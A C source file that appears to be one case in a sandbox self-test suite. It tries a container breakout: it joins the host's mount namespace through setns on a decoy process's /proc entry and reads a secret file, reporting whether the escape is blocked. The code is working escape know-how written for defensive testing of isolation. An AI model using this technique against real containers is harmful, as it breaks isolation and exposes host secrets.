/* Entering a host process's mount namespace with setns(2): what
 * `nsenter --target 1 --mount` does from a container that shares the
 * host's pid namespace and holds CAP_SYS_ADMIN and CAP_SYS_CHROOT (the
 * "privileged + hostPID" breakout, e.g.
 * https://bishopfox.com/blog/kubernetes-pod-privilege-escalation
 * "Everything allowed"). Joins the decoy's mount namespace (the host's),
 * whose root is the host's "/", and reads the runner's secret at its
 * host path. */
#include "attack.h"

#include <fcntl.h>
#include <sched.h>
#include <unistd.h>

int attack_setns_host_mnt(void) {
    const char *secret = need_env("SELFTEST_SECRET");
    char path[64];
    int ns = open_decoy_file("ns/mnt", O_RDONLY, path, sizeof path);
    if (ns < 0)
        BLOCKED_ERRNO("open /proc/DECOY/ns/mnt");
    if (setns(ns, CLONE_NEWNS) < 0)
        BLOCKED_ERRNO("setns(host mount namespace)");
    int fd = open(secret, O_RDONLY);
    if (fd < 0)
        BLOCKED_ERRNO("open the secret in the host's mount namespace");
    if (print_leak(fd) < 0)
        BLOCKED_ERRNO("read the secret");
    WORKED("joined the host's mount namespace and read a host file");
}
